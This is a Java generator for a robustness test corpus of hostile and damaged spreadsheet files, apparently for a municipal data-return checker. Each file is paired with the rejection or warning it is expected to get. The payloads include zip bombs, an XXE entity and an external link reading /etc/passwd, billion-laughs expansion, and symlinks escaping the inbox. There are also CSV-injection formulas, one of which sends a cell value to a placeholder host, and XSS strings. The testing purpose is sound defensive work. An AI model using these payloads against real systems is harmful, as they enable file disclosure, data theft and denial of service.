package fi.digikunta.robustness;

import fi.digikunta.model.Outcome;
import fi.digikunta.reference.Municipality;
import fi.digikunta.reference.MunicipalityList;
import fi.digikunta.testing.Fixtures;
import fi.digikunta.testing.HandWrittenXlsx;
import fi.digikunta.testing.TestReturn;
import fi.digikunta.testing.ZipParts;
import java.io.IOException;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The robustness corpus: hostile and broken files, with a few valid returns beside them, written
 * into a folder at test time (nothing large is committed; src/test/resources/robustness/README.md
 * lists every file). Each {@link Case} says the one outcome and reason code the file must get in a
 * batch. Readable hostile files each carry their own municipality code, so that no superseding
 * between them hides a result. Run as a program to write the corpus:
 * {@code java -cp ... fi.digikunta.robustness.RobustnessCorpus DIR}.
 */
public final class RobustnessCorpus {
    /** The text of the local file that the external entity points to; it must appear in no output. */
    public static final String SECRET = "DIGIKUNTA-SECRET-5d41402abc4b2a76";
    /** Hostile text put where workbook text reaches reports: cells, tab names, file names. */
    public static final List<String> INJECTIONS = List.of("=HYPERLINK(\"http://example.invalid/?x=\"&B2,\"klikkaa\")",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB=1", "\rCR=1", "<script>alert('digikunta')</script>",
            "<img src=x onerror=alert(1)>", "\"}],\"injected\":[{\"x\":\"", "</script><script>alert(2)</script>");
    static final MunicipalityList LIST = MunicipalityList.builtIn();
    static final LocalDate DATE = LocalDate.of(2025, 3, 14);

    /**
     * One file of the corpus and what it must get.
     *
     * @param file the file name in the inbox
     * @param outcome its outcome
     * @param code the reason code of a rejected file, else null
     * @param finding for an accepted-with-warnings file, a finding code it must have, else null
     * @param what what the file is, for the README and test names
     */
    public record Case(String file, Outcome outcome, String code, String finding, String what) {
        @Override
        public String toString() {
            return file;
        }
    }

    private RobustnessCorpus() {
    }

    /** The cases, in file-name order, without writing anything. */
    public static List<Case> cases() {
        return define(null, null);
    }

    /**
     * Writes every file into {@code inbox} and the entity's target (holding {@link #SECRET}) into
     * {@code outside}, which must not be the inbox; returns the cases in file-name order.
     */
    public static List<Case> write(Path inbox, Path outside) throws IOException {
        Files.createDirectories(inbox);
        Files.createDirectories(outside);
        Path secret = outside.resolve("secret.txt");
        Files.writeString(secret, SECRET + "\n", StandardCharsets.UTF_8);
        return define(inbox, secret);
    }

    /** The file names of the symbolic links, which a copy of the inbox must leave out. */
    public static boolean isLink(Case c) {
        return c.file().startsWith("link-");
    }

    /** The valid files: their results must be the same in the hostile batch as alone. */
    public static List<Case> valid(List<Case> cases) {
        return cases.stream().filter(c -> c.file().startsWith("valid-")).toList();
    }

    private static List<Case> define(Path dir, Path secret) {
        List<Case> cases = new ArrayList<>();
        Writer w = new Writer(dir, cases);
        // Valid returns, one per writer.
        w.bytes("valid-049-espoo.xlsx", Outcome.ACCEPTED, null, null, "valid return written by POI",
                () -> valid("049").toXlsx());
        w.bytes("valid-091-helsinki.xlsx", Outcome.ACCEPTED, null, null,
                "valid return written by hand (inline strings, no styles)", () -> HandWrittenXlsx.write(valid("091")));
        w.bytes("valid-092-vantaa.xls", Outcome.ACCEPTED, null, null, "valid old binary .xls",
                () -> valid("092").toXls());

        // Zip-level attacks and damage.
        w.bytes("zip-bomb-ratio.xlsx", Outcome.REJECTED, "zip-bomb", null,
                "sheet part of 50 MB of one repeated byte (inflate ratio about 1:1000)", RobustnessCorpus::ratioBomb);
        w.bytes("zip-bomb-declared-size.xlsx", Outcome.REJECTED, "zip-bomb", null,
                "sheet entry declaring 3 GB uncompressed in the central directory", RobustnessCorpus::declaredBomb);
        w.bytes("truncated.xlsx", Outcome.REJECTED, "corrupt-zip", null, "valid return cut at half its length",
                () -> {
                    byte[] b = valid("186").toXlsx();
                    return Arrays.copyOf(b, b.length / 2);
                });
        w.bytes("corrupt-deflate.xlsx", Outcome.REJECTED, "corrupt-zip", null,
                "64 bytes of a sheet's compressed data overwritten", () -> Fixtures.damage(valid("186").toXlsx(),
                        "xl/worksheets/sheet3.xml"));
        w.bytes("zip-not-a-workbook.xlsx", Outcome.REJECTED, "not-a-workbook", null,
                "a zip of a text file and a picture", () -> {
                    Map<String, byte[]> m = new LinkedHashMap<>();
                    m.put("lueminut.txt", "Ei työkirja.".getBytes(StandardCharsets.UTF_8));
                    m.put("kuva.png", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
                    return ZipParts.write(m);
                });

        // XML attacks.
        w.bytes("doctype-external-entity.xlsx", Outcome.REJECTED, "xml-doctype", null,
                "shared strings with an external entity pointing to a local file, used in a cell", () -> {
                    String uri = secret == null ? "file:///etc/passwd" : secret.toUri().toString();
                    return ZipParts.edit(valid("186").toXlsx(), "xl/sharedStrings.xml", s -> s
                            .replaceFirst("\\?>", "?><!DOCTYPE sst [<!ENTITY xxe SYSTEM \"" + uri + "\">]>")
                            .replace("<t>Järvenpää</t>", "<t>&xxe;</t>"));
                });
        w.bytes("billion-laughs.xlsx", Outcome.REJECTED, "xml-doctype", null,
                "workbook part with nested entities (billion laughs)", () -> {
                    StringBuilder dtd = new StringBuilder("<!DOCTYPE workbook [<!ENTITY l0 \"ha\">");
                    for (int i = 1; i <= 10; i++) {
                        dtd.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10))
                                .append("\">");
                    }
                    dtd.append("]>");
                    return ZipParts.edit(valid("186").toXlsx(), "xl/workbook.xml",
                            s -> s.replaceFirst("\\?>", "?>" + dtd).replace("name=\"Ohje\"", "name=\"&l10;\""));
                });
        w.bytes("invalid-utf8.xlsx", Outcome.REJECTED, "corrupt-workbook", null,
                "sheet part with bytes that are not UTF-8", () -> {
                    Map<String, byte[]> m = new LinkedHashMap<>(ZipParts.read(valid("186").toXlsx()));
                    byte[] sheet = m.get("xl/worksheets/sheet3.xml");
                    byte[] bad = Arrays.copyOf(sheet, sheet.length + 4);
                    System.arraycopy(sheet, sheet.length - 20, bad, sheet.length - 16, 20);
                    bad[sheet.length - 20] = (byte) 0xFF;
                    bad[sheet.length - 19] = (byte) 0xFE;
                    bad[sheet.length - 18] = (byte) 0xC3;
                    bad[sheet.length - 17] = (byte) 0x28;
                    m.put("xl/worksheets/sheet3.xml", bad);
                    return ZipParts.write(m);
                });

        // Not workbooks at all.
        w.bytes("encrypted.xlsx", Outcome.REJECTED, "encrypted", null, "valid return saved with a password",
                () -> Fixtures.encrypt(valid("186").toXlsx(), "salasana"));
        w.bytes("renamed-csv.xlsx", Outcome.REJECTED, "not-a-workbook", null, "a CSV file renamed to .xlsx",
                () -> "Kunta;Tunnus;Tila\nJärvenpää;186;Käytössä\n".getBytes(StandardCharsets.UTF_8));
        w.bytes("renamed-html.xlsx", Outcome.REJECTED, "not-a-workbook", null, "an HTML page renamed to .xlsx",
                () -> "<!DOCTYPE html>\n<html><body><script>alert(1)</script><table><tr><td>186</td></tr></table>"
                        .getBytes(StandardCharsets.UTF_8));
        w.bytes("renamed-pdf.xlsx", Outcome.REJECTED, "not-a-workbook", null, "a PDF renamed to .xlsx",
                () -> ("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
                        .getBytes(StandardCharsets.US_ASCII));
        w.bytes("=2+3<script>alert(1).xlsx", Outcome.REJECTED, "not-a-workbook", null,
                "a text file whose file name is a formula and a script tag",
                () -> "muistiinpano\n".getBytes(StandardCharsets.UTF_8));
        w.bytes("empty.xlsx", Outcome.REJECTED, "file-empty", null, "0 bytes", () -> new byte[0]);
        w.file("zeros-200mb.xlsx", Outcome.REJECTED, "file-too-large", null,
                "200 MB of zero bytes (a sparse file, never read)", p -> {
                    try (RandomAccessFile f = new RandomAccessFile(p.toFile(), "rw")) {
                        f.setLength(200L * 1024 * 1024);
                    }
                });

        // Size limits.
        w.file("million-rows.xlsx", Outcome.REJECTED, "read-limit", null,
                "a tab of 1,000,000 rows, streamed into the zip (about 6 MB compressed)", RobustnessCorpus::millionRows);
        w.bytes("text-1mb-cell.xlsx", Outcome.REJECTED, "read-limit", null,
                "a notes cell of 1,048,576 characters", () -> {
                    TestReturn t = valid("186");
                    t.area("ASU").rows.get(0).put("notes", "x".repeat(1024 * 1024));
                    return HandWrittenXlsx.write(t);
                });

        w.bytes("service-rows-5000.xlsx", Outcome.REJECTED, "read-limit", null,
                "5,000 own services on one area tab (every row of an accepted file is kept for the reports)", () -> {
                    TestReturn t = valid("182");
                    for (int i = 0; i < 5000; i++) {
                        t.area("VIO").rows.add(row("service", "Oma palvelu " + i, "status", "Käytössä",
                                "stage.NEU", "Digitaalinen"));
                    }
                    return HandWrittenXlsx.write(t);
                });

        // Readable files with hostile or odd content: read, with findings where they belong.
        w.bytes("injection-texts.xlsx", Outcome.ACCEPTED_WITH_WARNINGS, null, "extra-tab",
                "formulas, tags and JSON breakers in the contact, own services, notes and tab names", () -> {
                    TestReturn t = valid("020");
                    t.id.put("contact", INJECTIONS.get(6));
                    List<Map<String, Object>> rows = t.area("ASU").rows;
                    for (int i = 0; i < INJECTIONS.size(); i++) {
                        rows.add(row("service", INJECTIONS.get(i) + " " + i, "status", "Suunnitteilla",
                                "notes", INJECTIONS.get((i + 1) % INJECTIONS.size())));
                    }
                    t.extraTabs.add("<script>alert(3)");
                    t.extraTabs.add("=cmd|' -C calc'!A0");
                    return t.toXlsx();
                });
        w.bytes("injection-name.xlsx", Outcome.ACCEPTED_WITH_WARNINGS, null, "name-mismatch",
                "a municipality name that is a script tag and a formula", () -> {
                    TestReturn t = valid("046");
                    t.id.put("name", "<script>alert('nimi')</script>=1+1");
                    return t.toXlsx();
                });
        w.bytes("control-characters.xlsx", Outcome.ACCEPTED_WITH_WARNINGS, null, "unknown-id",
                "control characters and unpaired surrogates (as _xHHHH_ escapes) in ids, names and notes", () -> {
                    TestReturn t = valid("035");
                    t.area("ASU").rows.add(row("id", "X_x0000_1_x0007__xD800_",
                            "service", "Kello_x0007_ ja _xD800_ yksinäinen _xDFFF_ sijainen _x001B_[31m",
                            "status", "Suunnitteilla", "notes", "rivi_x000D_\nrivi_x0008_"));
                    return HandWrittenXlsx.write(t);
                });
        w.bytes("formula-errors-external-link.xlsx", Outcome.ACCEPTED_WITH_WARNINGS, null, "not-a-number",
                "cached #DIV/0! and #REF! in number cells, a formula into an external workbook", () -> {
                    TestReturn t = valid("109");
                    List<Map<String, Object>> rows = t.area("ASU").rows;
                    rows.get(0).put("volume", new TestReturn.Formula("1/0", "#DIV/0!"));
                    rows.get(0).put("cost", new TestReturn.Formula("#REF!", "#REF!"));
                    return externalLink(t.toXlsx());
                });
        w.bytes("macro-enabled.xlsm", Outcome.ACCEPTED, null, null,
                "a valid return with a vbaProject.bin part and the macro-enabled content type (never run)",
                () -> macroEnabled(valid("148").toXlsx()));
        w.bytes("strict-ooxml.xlsx", Outcome.ACCEPTED, null, null, "a valid return in Strict OOXML namespaces",
                () -> ZipParts.editAll(valid("153").toXlsx(), s -> s
                        .replace("http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                                "http://purl.oclc.org/ooxml/spreadsheetml/main")
                        .replace("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                                "http://purl.oclc.org/ooxml/officeDocument/relationships")));
        w.bytes("shared-string-out-of-range.xlsx", Outcome.ACCEPTED_WITH_WARNINGS, null, "invalid-status",
                "status cells pointing past the end of the shared-string table", () -> {
                    byte[] b = valid("167").toXlsx();
                    return ZipParts.edit(b, "xl/worksheets/sheet3.xml",
                            s -> s.replaceFirst("(<c r=\"C4\"[^>]*t=\"s\"[^>]*><v>)\\d+(</v>)", "$199999$2")
                                    .replaceFirst("(<c r=\"C5\"[^>]*t=\"s\"[^>]*><v>)\\d+(</v>)", "$1-1$2"));
                });
        // Without styles the fill date is a plain number, so the date is unknown; a v1 return then has no
        // round either (none given for its inbox), which rejects it.
        w.bytes("styles-missing.xlsx", Outcome.REJECTED, "round-unknown", null,
                "a valid return whose styles part is gone (relationship and content type left dangling)", () -> {
                    Map<String, byte[]> m = new LinkedHashMap<>(ZipParts.read(valid("179").toXlsx()));
                    m.remove("xl/styles.xml");
                    return ZipParts.write(m);
                });
        // Symbolic links: never followed out of the inbox, whatever they point at.
        w.link("link-to-outside-return.xlsx", "symlink-outside-inbox",
                "a link to a valid return of 186 Järvenpää kept outside the inbox", () -> {
                    Path target = secret.resolveSibling("outside-return.xlsx");
                    Files.write(target, valid("186").toXlsx());
                    return target;
                });
        w.link("link-to-secret.xlsx", "symlink-outside-inbox", "a link to the local file the entity also names",
                () -> secret);
        w.link("link-dangling.xlsx", "symlink-broken", "a link to a file that does not exist",
                () -> secret.resolveSibling("ei-ole.xlsx"));
        cases.sort(Comparator.comparing(Case::file));
        return cases;
    }

    /** A valid return of the municipality with this code, named as the reference list names it. */
    static TestReturn valid(String code) {
        Municipality m = LIST.byCode(code).orElseThrow();
        return TestReturn.valid(code, m.nameFi(), DATE);
    }

    private static byte[] ratioBomb() {
        Map<String, byte[]> m = new LinkedHashMap<>(ZipParts.read(valid("186").toXlsx()));
        byte[] sheet = new byte[50 * 1024 * 1024];
        Arrays.fill(sheet, (byte) ' ');
        byte[] head = "<?xml version=\"1.0\"?><worksheet><sheetData/>".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(head, 0, sheet, 0, head.length);
        byte[] tail = "</worksheet>".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(tail, 0, sheet, sheet.length - tail.length, tail.length);
        m.put("xl/worksheets/sheet3.xml", sheet);
        return ZipParts.write(m);
    }

    /** A small stored sheet entry whose central-directory record claims 3 GB (ZIP64 not needed to lie). */
    private static byte[] declaredBomb() {
        byte[] b = ZipParts.write(ZipParts.read(valid("186").toXlsx()));
        byte[] name = "xl/worksheets/sheet3.xml".getBytes(StandardCharsets.US_ASCII);
        for (int p = b.length - 46; p >= 0; p--) {
            if (b[p] == 'P' && b[p + 1] == 'K' && b[p + 2] == 1 && b[p + 3] == 2) {
                int n = (b[p + 28] & 0xFF) | (b[p + 29] & 0xFF) << 8;
                if (n == name.length && Arrays.equals(b, p + 46, p + 46 + n, name, 0, n)) {
                    long size = 3L * 1024 * 1024 * 1024;
                    for (int i = 0; i < 4; i++) {
                        b[p + 24 + i] = (byte) (size >>> (8 * i));
                    }
                    return b;
                }
            }
        }
        throw new IllegalStateException("no central-directory record for the sheet");
    }

    /** A workbook whose only tab has one cell on each of 1,000,000 rows, streamed into the zip. */
    private static void millionRows(Path p) throws IOException {
        Map<String, byte[]> parts = HandWrittenXlsx.parts(List.of("Rivit"), List.of(""));
        try (OutputStream out = Files.newOutputStream(p); ZipOutputStream z = new ZipOutputStream(out)) {
            z.setLevel(Deflater.BEST_COMPRESSION);
            for (Map.Entry<String, byte[]> e : parts.entrySet()) {
                z.putNextEntry(new ZipEntry(e.getKey()));
                if (e.getKey().equals("xl/worksheets/sheet1.xml")) {
                    StringBuilder b = new StringBuilder(1 << 16);
                    b.append("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas."
                            + "openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
                    for (int r = 1; r <= 1_000_000; r++) {
                        b.append("<row r=\"").append(r).append("\"><c r=\"A").append(r).append("\"><v>")
                                .append(r % 97).append("</v></c></row>");
                        if (b.length() > 60_000) {
                            z.write(b.toString().getBytes(StandardCharsets.US_ASCII));
                            b.setLength(0);
                        }
                    }
                    b.append("</sheetData></worksheet>");
                    z.write(b.toString().getBytes(StandardCharsets.US_ASCII));
                } else {
                    z.write(e.getValue());
                }
                z.closeEntry();
            }
        }
    }

    /** Adds an external link part (to a file on another machine) and a formula that uses it. */
    private static byte[] externalLink(byte[] xlsx) {
        Map<String, byte[]> m = new LinkedHashMap<>(ZipParts.read(xlsx));
        m.put("xl/externalLinks/externalLink1.xml", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><externalLink xmlns="
                + "\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas."
                + "openxmlformats.org/officeDocument/2006/relationships\"><externalBook r:id=\"rId1\"><sheetNames>"
                + "<sheetName val=\"Tiedot\"/></sheetNames><sheetDataSet><sheetData sheetId=\"0\"><row r=\"1\">"
                + "<cell r=\"A1\"><v>" + SECRET + "</v></cell></row></sheetData></sheetDataSet></externalBook>"
                + "</externalLink>").getBytes(StandardCharsets.UTF_8));
        m.put("xl/externalLinks/_rels/externalLink1.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/externalLinkPath\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/externalLinkPath\" Target=\"http://example.invalid/tiedot.xlsx\" "
                + "TargetMode=\"External\"/></Relationships>").getBytes(StandardCharsets.UTF_8));
        String rels = new String(m.get("xl/_rels/workbook.xml.rels"), StandardCharsets.UTF_8);
        m.put("xl/_rels/workbook.xml.rels", rels.replace("</Relationships>", "<Relationship Id=\"rIdX1\" Type=\""
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" Target="
                + "\"externalLinks/externalLink1.xml\"/></Relationships>").getBytes(StandardCharsets.UTF_8));
        String wb = new String(m.get("xl/workbook.xml"), StandardCharsets.UTF_8);
        m.put("xl/workbook.xml", wb.replace("</sheets>", "</sheets><externalReferences><externalReference "
                + "r:id=\"rIdX1\"/></externalReferences>").getBytes(StandardCharsets.UTF_8));
        String sheet = new String(m.get("xl/worksheets/sheet3.xml"), StandardCharsets.UTF_8);
        // The target-cell formula: a cached value from the external book that must not be trusted
        // beyond the cell, and nothing fetched.
        m.put("xl/worksheets/sheet3.xml", sheet.replaceFirst("<c r=\"N4\"([^>]*)>(<f>[^<]*</f>)?<v>",
                "<c r=\"N4\"$1><f>[1]Tiedot!A1*0+1000</f><v>").getBytes(StandardCharsets.UTF_8));
        return ZipParts.write(m);
    }

    /** A macro-enabled workbook: a vbaProject.bin part, its relationship and the .xlsm content type. */
    private static byte[] macroEnabled(byte[] xlsx) {
        Map<String, byte[]> m = new LinkedHashMap<>(ZipParts.read(xlsx));
        byte[] vba = new byte[1024];
        new Random(8).nextBytes(vba);
        System.arraycopy(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, 0, vba, 0, 4);
        m.put("xl/vbaProject.bin", vba);
        String ct = new String(m.get("[Content_Types].xml"), StandardCharsets.UTF_8);
        m.put("[Content_Types].xml", ct
                .replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                        "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office."
                        + "vbaProject\"/></Types>").getBytes(StandardCharsets.UTF_8));
        String rels = new String(m.get("xl/_rels/workbook.xml.rels"), StandardCharsets.UTF_8);
        m.put("xl/_rels/workbook.xml.rels", rels.replace("</Relationships>", "<Relationship Id=\"rIdV\" Type=\""
                + "http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
                + "</Relationships>").getBytes(StandardCharsets.UTF_8));
        return ZipParts.write(m);
    }

    /** Writes a case's file (when writing) and records the case. */
    private static final class Writer {
        interface Bytes {
            byte[] get() throws IOException;
        }

        interface FileWriter {
            void write(Path p) throws IOException;
        }

        final Path dir;
        final List<Case> cases;

        Writer(Path dir, List<Case> cases) {
            this.dir = dir;
            this.cases = cases;
        }

        void bytes(String file, Outcome outcome, String code, String finding, String what, Bytes b) {
            file(file, outcome, code, finding, what, p -> Files.write(p, b.get()));
        }

        interface Target {
            Path get() throws IOException;
        }

        /** A symbolic link in the inbox to what {@code target} gives (made when writing). */
        void link(String file, String code, String what, Target target) {
            file(file, Outcome.REJECTED, code, null, what, p -> Files.createSymbolicLink(p, target.get()));
        }

        void file(String file, Outcome outcome, String code, String finding, String what, FileWriter f) {
            cases.add(new Case(file, outcome, code, finding, what));
            if (dir != null) {
                try {
                    f.write(dir.resolve(file));
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            }
        }
    }

    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args.length > 0 ? args[0] : "target/robustness/inbox");
        List<Case> cases = write(dir, dir.resolveSibling("outside"));
        for (Case c : cases) {
            System.out.println(c.file() + "\t" + c.outcome().id() + "\t" + (c.code() == null ? "" : c.code()));
        }
    }

    /** A row of an area tab: column keys and values, alternately, in column order. */
    static Map<String, Object> row(String... keysAndValues) {
        Map<String, Object> r = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            r.put(keysAndValues[i], keysAndValues[i + 1]);
        }
        return r;
    }
}
